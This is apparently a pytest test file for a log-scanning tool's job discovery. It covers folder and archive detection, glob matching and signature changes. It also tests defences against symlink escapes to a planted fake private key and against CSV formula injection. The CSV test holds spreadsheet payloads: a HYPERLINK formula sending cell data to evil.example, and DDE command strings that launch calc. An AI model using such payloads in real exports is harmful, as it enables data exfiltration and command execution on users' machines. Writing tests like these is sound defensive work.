"""Job discovery for `crashlens scan`: the default rule, --job-glob, archives, odd entries."""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pytest
from scan_helpers import healthy_job, oom_job, tar_job, write

from crashlens.batch.job import analyze_job
from crashlens.batch.jobs import discover_jobs, glob_matches
from crashlens.batch.output import write_table
from crashlens.batch.row import JobRow


def _jobs(root: Path, glob: str | None = None, exclude: Path | None = None) -> dict[str, str]:
    return {job.rel: job.kind for job in discover_jobs(root, glob, exclude)}


def test_each_folder_that_directly_holds_files_is_a_job(tmp_path: Path) -> None:
    healthy_job(tmp_path / "2024-03" / "job-1")
    healthy_job(tmp_path / "2024-03" / "job-2")
    write(tmp_path / "2024-03" / "job-2" / "ranks" / "rank0.log", "hello\n")
    tar_job(tmp_path / "2024-04" / "job-3.tar.gz", {"launcher.log": "x\n"})
    write(tmp_path / ".hidden" / "job-9" / "launcher.log", "x\n")
    write(tmp_path / "job-4" / ".launcher.log.swp", "x\n")
    assert _jobs(tmp_path) == {
        "2024-03/job-1": "folder",
        "2024-03/job-2": "folder",
        "2024-03/job-2/ranks": "folder",
        "2024-04/job-3.tar.gz": "archive",
    }


def test_a_folder_job_holds_its_direct_files_and_stats(tmp_path: Path) -> None:
    job = healthy_job(tmp_path / "job-1")
    write(job / "dmesg.txt.gz", "not really gzip\n")
    (spec,) = discover_jobs(tmp_path)
    assert [Path(p).name for p in spec.inputs] == ["dmesg.txt.gz", "launcher.log"]
    assert spec.size == sum((job / f.name).stat().st_size for f in spec.files)
    assert spec.mtime_ns == max((job / f.name).stat().st_mtime_ns for f in spec.files)


def test_archives_next_to_logs_are_jobs_of_their_own(tmp_path: Path) -> None:
    healthy_job(tmp_path / "batch")
    tar_job(tmp_path / "batch" / "job-7.tgz", {"a.log": "x\n"})
    write(tmp_path / "batch" / "job-8.zip", "PK")
    assert _jobs(tmp_path) == {
        "batch": "folder",
        "batch/job-7.tgz": "archive",
        "batch/job-8.zip": "archive",
    }
    spec = next(s for s in discover_jobs(tmp_path) if s.rel == "batch")
    assert [Path(p).name for p in spec.inputs] == ["launcher.log"]


def test_the_output_folder_is_never_a_job(tmp_path: Path) -> None:
    healthy_job(tmp_path / "job-1")
    write(tmp_path / "scan-out" / "summary.json", "{}\n")
    assert _jobs(tmp_path, exclude=tmp_path / "scan-out") == {"job-1": "folder"}


def test_job_glob_takes_whole_subtrees(tmp_path: Path) -> None:
    healthy_job(tmp_path / "cluster-a" / "job-1")
    write(tmp_path / "cluster-a" / "job-1" / "node-0" / "dmesg.txt", "x\n")
    healthy_job(tmp_path / "cluster-a" / "job-2")
    tar_job(tmp_path / "cluster-b" / "job-3.tar.gz", {"launcher.log": "x\n"})
    write(tmp_path / "cluster-b" / "README", "not a job\n")
    jobs = _jobs(tmp_path, "*/job-*")
    assert jobs == {
        "cluster-a/job-1": "folder",
        "cluster-a/job-2": "folder",
        "cluster-b/job-3.tar.gz": "archive",
    }
    spec = next(s for s in discover_jobs(tmp_path, "*/job-*") if s.rel == "cluster-a/job-1")
    assert sorted(f.name for f in spec.files) == ["launcher.log", "node-0/dmesg.txt"]


def test_job_glob_double_star_matches_any_depth(tmp_path: Path) -> None:
    healthy_job(tmp_path / "a" / "b" / "c" / "job-1")
    healthy_job(tmp_path / "job-2")
    assert set(_jobs(tmp_path, "**/job-*")) == {"a/b/c/job-1", "job-2"}
    assert glob_matches(("a", "b", "job-1"), ("**", "job-*"))
    assert not glob_matches(("a", "b"), ("*",))


def test_a_single_archive_as_root_is_one_job(tmp_path: Path) -> None:
    archive = tar_job(tmp_path / "job-1.tar.gz", {"launcher.log": "x\n"})
    (spec,) = discover_jobs(archive)
    assert (spec.rel, spec.kind) == ("job-1.tar.gz", "archive")


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads any folder")
def test_an_unlistable_folder_is_a_job_with_a_reason(tmp_path: Path) -> None:
    healthy_job(tmp_path / "job-1")
    locked = tmp_path / "job-2"
    healthy_job(locked)
    locked.chmod(0)
    try:
        specs = {s.rel: s for s in discover_jobs(tmp_path)}
    finally:
        locked.chmod(0o755)
    assert specs["job-2"].kind == "unreadable"
    assert "cannot be listed" in (specs["job-2"].reason or "")


def test_signature_changes_with_size_or_mtime(tmp_path: Path) -> None:
    job = healthy_job(tmp_path / "job-1")
    (before,) = discover_jobs(tmp_path)
    (same,) = discover_jobs(tmp_path)
    assert before.signature == same.signature
    log = job / "launcher.log"
    stat = log.stat()
    os.utime(log, ns=(stat.st_atime_ns, stat.st_mtime_ns + 1_000_000_000))
    (after,) = discover_jobs(tmp_path)
    assert after.signature != before.signature


def _secret_outside(tmp_path: Path) -> Path:
    secret = tmp_path / "home" / "id_rsa"
    write(secret, "-----BEGIN OPENSSH PRIVATE KEY----- planted-secret-line\n")
    return secret


def test_scan_never_follows_a_link_out_of_its_root(tmp_path: Path) -> None:
    secret = _secret_outside(tmp_path)
    root = tmp_path / "archive"
    job = oom_job(root / "job-1")
    (job / "leak.log").symlink_to(secret)
    (job / "home").symlink_to(secret.parent)
    (job / "gone.log").symlink_to(job / "missing.log")
    (job / "same.log").symlink_to(job / "launcher.log")  # inside the root: read
    (spec,) = discover_jobs(root)
    assert sorted(Path(p).name for p in spec.inputs) == ["launcher.log", "same.log"]
    assert dict(spec.skipped) == {
        "job-1/gone.log": "broken symbolic link: not read",
        "job-1/home": "symbolic link to a path outside the scanned root: not read",
        "job-1/leak.log": "symbolic link to a path outside the scanned root: not read",
    }
    row = analyze_job(spec, str(root))
    assert row.verdict == "gpu_oom"
    assert "job-1/leak.log: symbolic link to a path outside the scanned root: not read" in (
        row.skipped
    )
    assert "planted-secret-line" not in json.dumps(row.to_dict())


def test_a_folder_of_links_out_of_the_root_is_a_row_with_the_reason(tmp_path: Path) -> None:
    secret = _secret_outside(tmp_path)
    root = tmp_path / "archive"
    healthy_job(root / "job-1")
    (root / "job-2").mkdir()
    (root / "job-2" / "launcher.log").symlink_to(secret)
    (root / "job-3.tar.gz").symlink_to(secret)
    specs = {spec.rel: spec for spec in discover_jobs(root)}
    assert set(specs) == {"job-1", "job-2", "."}
    for rel in ("job-2", "."):
        assert specs[rel].kind == "unreadable"
        assert specs[rel].inputs == ()
        assert "outside the scanned root" in (specs[rel].reason or "")
    row = analyze_job(specs["job-2"], str(root))
    assert row.reason is not None and "outside the scanned root" in row.reason
    assert row.skipped == ["job-2/launcher.log: " + specs["job-2"].skipped[0][1]]


def test_job_glob_jobs_never_follow_a_link_out_of_the_root(tmp_path: Path) -> None:
    secret = _secret_outside(tmp_path)
    root = tmp_path / "archive"
    healthy_job(root / "cluster" / "job-1")
    (root / "cluster" / "job-1" / "node-0").mkdir()
    (root / "cluster" / "job-1" / "node-0" / "dmesg.txt").symlink_to(secret)
    (root / "cluster" / "job-2.log").symlink_to(secret)
    specs = {spec.rel: spec for spec in discover_jobs(root, "cluster/*")}
    assert [Path(p).name for p in specs["cluster/job-1"].inputs] == ["launcher.log"]
    assert specs["cluster/job-1"].skipped == (
        (
            "cluster/job-1/node-0/dmesg.txt",
            "symbolic link to a path outside the scanned root: not read",
        ),
    )
    assert specs["cluster/job-2.log"].kind == "unreadable"
    assert specs["cluster/job-2.log"].inputs == ()


def test_a_link_inside_the_root_to_a_folder_is_not_a_second_job(tmp_path: Path) -> None:
    root = tmp_path / "archive"
    healthy_job(root / "job-1")
    (root / "latest").symlink_to(root / "job-1")
    assert _jobs(root) == {"job-1": "folder"}


def test_csv_cells_a_spreadsheet_would_run_are_inert_and_numbers_stay_numbers(
    tmp_path: Path,
) -> None:
    row = JobRow(
        job='=HYPERLINK("http://evil.example/?"&A1,"open")',
        verdict="unknown",
        confidence=0.5,
        summary="+cmd|' /C calc'!A0",
        evidence="@SUM(1+1)*cmd|' /C calc'!A0",
        hosts=["-2+3", "node-1"],
        skipped=["\tlog: tab first"],
        reason="\rcarriage return first",
        signature="a=1 is fine in the middle",
        files=2,
        bytes=-5,
        seconds=-0.25,
    )
    (path,) = write_table([row], tmp_path, ["csv"])
    with path.open(newline="", encoding="utf-8") as handle:
        (cells,) = list(csv.DictReader(handle))
    for name in ("job", "summary", "evidence", "hosts", "skipped"):
        assert cells[name].startswith("'"), name
    # a control character is shown as its escape, so it no longer starts a formula
    assert cells["reason"] == "\\x0dcarriage return first"
    assert cells["job"] == "'" + row.job
    assert cells["hosts"] == "'-2+3;node-1"
    assert cells["signature"] == "a=1 is fine in the middle"
    assert cells["verdict"] == "unknown"
    assert (cells["files"], cells["bytes"], cells["seconds"]) == ("2", "-5", "-0.25")
    assert cells["confidence"] == "0.5"
